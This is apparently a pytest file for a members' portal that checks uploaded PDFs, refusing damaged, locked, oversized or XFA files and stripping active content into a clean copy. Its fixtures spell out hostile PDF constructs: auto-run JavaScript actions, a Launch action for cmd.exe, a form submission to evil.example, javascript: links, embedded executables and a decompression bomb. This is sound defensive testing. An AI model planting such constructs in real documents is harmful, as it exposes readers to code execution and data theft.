"""A PDF from outside: what is refused, what is taken as it is, and what only its copy may stand for."""

import io
import zlib

import pypdfium2
import pytest
from pypdfium2 import raw as pdfium

from members.uploads.refusals import DamagedFile, NeedsPassword, NotExamined, TooLarge, UnusableFile, WrongKind
from notices import pdf, pdf_contents
from notices.pdf_contents import contents
from tests.written_pdf import FORBIDS_ASSEMBLY, SCRIPT, Lock, Stream, embedded_file, written


def text_of(content: bytes) -> list[str]:
    return [page.get_textpage().get_text_range() for page in pypdfium2.PdfDocument(content)]


def picture_of(content: bytes) -> bytes:
    return pypdfium2.PdfDocument(content)[0].render().to_pil().tobytes()


def written_anew(content: bytes) -> bytes:
    """By pdfium: names and dictionaries lie open."""
    stream = io.BytesIO()
    pypdfium2.PdfDocument(content).save(stream)
    return stream.getvalue()


# Taken as it is -------------------------------------------------------------------------------------------------------


def test_a_letter_of_our_own_is_taken_as_it_is():
    found = contents(pdf.render("<!doctype html><html lang=ja><title>題</title><p>周知</p></html>"))
    assert found == pdf_contents.Contents(1, acts=False, holds_files=False, may_be_bound=True, copy=b"")


@pytest.mark.parametrize("packed", [False, True])
def test_fields_links_and_bookmarks_alone_are_no_danger(packed: bool):
    link = "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://portal.example/) >> >>"
    found = contents(
        written(
            "<< /FT /Tx /T (name) /V (Takagi) /Subtype /Widget /Rect [0 0 99 20] /DA (/F1 9 Tf) >>",
            catalog="/AcroForm << /Fields [5 0 R] >> /OpenAction << /S /GoTo /D [6 0 R /Fit] >>",
            page=f"/Annots [5 0 R {link}]",
            packed=packed,
        )
    )
    assert (found.acts, found.holds_files, found.copy) == (False, False, b"")


def test_a_scan_without_text_is_taken():
    assert contents(written(text="")).copy == b""


def test_a_picture_that_is_laid_over_another_is_no_film():
    assert not contents(written("<< /BM /Screen >>")).acts


@pytest.mark.parametrize("packed", [False, True])
def test_a_pdf_that_opens_without_a_password_is_taken_and_says_whether_it_may_be_bound(packed: bool):
    assert contents(written(lock=Lock("", -4), packed=packed)).may_be_bound
    found = contents(written(lock=Lock("", FORBIDS_ASSEMBLY), packed=packed))
    assert (found.pages, found.acts, found.may_be_bound) == (1, False, False)


# Refused --------------------------------------------------------------------------------------------------------------


def test_a_pdf_with_a_password_is_refused():
    with pytest.raises(NeedsPassword, match="パスワード"):
        contents(written(lock=Lock("1234", -4)))


@pytest.mark.parametrize("cut", [0.2, 0.5, 0.9, 0.99])
def test_a_pdf_that_is_cut_off_is_refused(cut: float):
    whole = written(pages=20)
    with pytest.raises(DamagedFile, match="途中で切れています"):
        contents(whole[: int(len(whole) * cut)])


def test_a_pdf_without_its_pages_is_refused():
    with pytest.raises(DamagedFile):
        contents(written().replace(b"/Kids [5 0 R]", b"/Kids [9 0 R]"))


def test_ten_thousand_pages_are_refused():
    with pytest.raises(TooLarge, match=r"10,000 ページあります。1,000 ページまで"):
        contents(written(pages=10_000))


def test_a_thousand_pages_are_taken():
    assert contents(written(pages=1000)).pages == 1000


def test_a_form_that_only_one_program_opens_is_refused():
    form = Stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
    with pytest.raises(WrongKind, match="XFA"):
        contents(written(form, catalog="/NeedsRendering true /AcroForm << /Fields [] /XFA 5 0 R >>"))


def test_a_pdf_that_cannot_be_looked_into_in_time_is_refused(settings):
    settings.FILE_READING_SECONDS = 0.01
    with pytest.raises(NotExamined, match="調べきれませんでした"):
        contents(written())


def test_a_pdf_that_unpacks_to_more_than_its_memory_is_refused(settings):
    settings.FILE_READING_BYTES = 256 * 1024**2
    bomb = Stream(zlib.compress(bytes(400 * 1024**2), 1), "/Filter /FlateDecode")
    with pytest.raises(NotExamined, match="調べきれませんでした"):
        contents(written(SCRIPT, bomb, catalog="/OpenAction 5 0 R", page="/Contents 6 0 R"))


@pytest.mark.parametrize("content", [b"%PDF-", b"%PDF-1.7\n%%EOF", b"%PDF-1.7\n" + b"\x00" * 5000 + b"%%EOF"])
def test_what_only_begins_like_a_pdf_is_refused(content: bytes):
    with pytest.raises(UnusableFile):
        contents(content)


# Quarantined, with a copy ---------------------------------------------------------------------------------------------

LINK = "/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A {} >>]"
ACTING = {
    "on opening": {"catalog": "/OpenAction 5 0 R"},
    "by its name": {"catalog": "/Names << /JavaScript << /Names [(a) 5 0 R] >> >>"},
    "on closing": {"catalog": "/AA << /WC 5 0 R >>"},
    "on turning to a page": {"page": "/AA << /O 5 0 R >>"},
    "on pressing a link": {"page": LINK.format("5 0 R")},
    "on leaving a field": {
        "page": "/Annots [<< /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 9 9] /AA << /Bl 5 0 R >> >>]"
    },
    "after another action": {"catalog": "/OpenAction << /S /GoTo /D [6 0 R /Fit] /Next 5 0 R >>"},
    "in a bookmark": {"catalog": "/Outlines << /First << /Title (a) /A 5 0 R >> >>"},
    "starting a program": {"page": LINK.format("<< /S /Launch /F (cmd.exe) >>")},
    "sending a form": {"page": LINK.format("<< /S /SubmitForm /F (https://evil.example/) >>")},
    "by its address": {"page": LINK.format("<< /S /URI /URI (JavaScript:alert\\(1\\)) >>")},
    "by its address in digits": {"page": LINK.format(f"<< /S /URI /URI <{b'javascript:x'.hex()}> >>")},
    "in a film": {"page": "/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>]"},
    "in an old form": {"catalog": "/AcroForm << /Fields [] /XFA 5 0 R >>"},
}


@pytest.mark.parametrize("packed", [False, True], ids=["open", "packed"])
@pytest.mark.parametrize("where", ACTING.values(), ids=ACTING)
def test_what_acts_is_found_and_its_copy_shows_the_same_without_it(where: dict[str, str], packed: bool):
    found = contents(written(SCRIPT, text="Shuchi 2024", packed=packed, **where))
    assert (found.acts, found.holds_files) == (True, False)
    assert text_of(found.copy) == ["Shuchi 2024"]
    again = contents(found.copy)
    assert (again.acts, again.holds_files, again.copy) == (False, False, b"")
    copy = pypdfium2.PdfDocument(found.copy)
    assert pdfium.FPDFPage_GetAnnotCount(copy[0]) == 0
    assert b"/JavaScript" not in written_anew(found.copy)


def test_what_acts_is_found_behind_a_lock_that_asks_for_no_password():
    found = contents(
        written(SCRIPT, catalog="/OpenAction 5 0 R", packed=True, text="locked", lock=Lock("", FORBIDS_ASSEMBLY))
    )
    assert (found.acts, found.may_be_bound) == (True, False)
    assert text_of(found.copy) == ["locked"]


HOLDING = {
    "by its name": {"catalog": "/Names << /EmbeddedFiles << /Names [(a) 5 0 R] >> >>"},
    "pinned to a page": {"page": "/Annots [<< /Type /Annot /Subtype /FileAttachment /FS 5 0 R /Rect [9 9 9 9] >>]"},
    "belonging to it": {"catalog": "/AF [5 0 R]"},
    "in a collection": {"catalog": "/Collection << >> /Names << /EmbeddedFiles << /Names [(a) 5 0 R] >> >>"},
}


@pytest.mark.parametrize("packed", [False, True], ids=["open", "packed"])
@pytest.mark.parametrize("where", HOLDING.values(), ids=HOLDING)
def test_files_in_the_file_are_found_and_its_copy_has_none(where: dict[str, str], packed: bool):
    found = contents(written(*embedded_file("x.exe", b"MZ program"), packed=packed, **where))
    assert (found.acts, found.holds_files) == (False, True)
    assert text_of(found.copy) == ["Shuchi"]
    assert pdfium.FPDFDoc_GetAttachmentCount(pypdfium2.PdfDocument(found.copy)) == 0
    assert b"MZ program" not in written_anew(found.copy)
    assert not contents(found.copy).holds_files


def test_a_file_without_any_type_is_found():
    stream = Stream(b"MZ program")
    assert contents(written("<< /F (x.exe) /EF << /F 6 0 R >> >>", stream, catalog="/AF [5 0 R]")).holds_files


@pytest.mark.parametrize("rotate", [0, 90, 180, 270])
def test_the_copy_looks_like_the_original(rotate: int):
    original = written(SCRIPT, catalog="/OpenAction 5 0 R", size=(842, 595), rotate=rotate)
    copy = contents(original).copy
    assert pypdfium2.PdfDocument(copy)[0].get_size() == pypdfium2.PdfDocument(original)[0].get_size()
    assert picture_of(copy) == picture_of(original)


def test_the_copy_shows_what_was_filled_in():
    filled = Stream(
        b"BT /F1 12 Tf 2 5 Td (Takagi) Tj ET",
        "/Type /XObject /Subtype /Form /BBox [0 0 99 20] /Resources << /Font << /F1 3 0 R >> >>",
    )
    field = "<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /F 4 /Rect [72 500 171 520] /AP << /N 6 0 R >> >>"
    original = written(
        SCRIPT,
        filled,
        field,
        catalog="/OpenAction 5 0 R /AcroForm << /Fields [7 0 R] >>",
        page="/Annots [7 0 R]",
    )
    assert "Takagi" in text_of(contents(original).copy)[0]


def test_the_copy_of_many_pages_keeps_what_they_share_once():
    picture = Stream(
        bytes(range(256)) * 400,
        "/Type /XObject /Subtype /Image /Width 320 /Height 320 /BitsPerComponent 8 /ColorSpace /DeviceGray",
    )
    original = written(
        SCRIPT, picture, catalog="/OpenAction 5 0 R", page="/Group << /S /Transparency /X 6 0 R >>", pages=100
    )
    found = contents(original)
    assert len(text_of(found.copy)) == 100
    assert len(found.copy) < 2 * len(original)
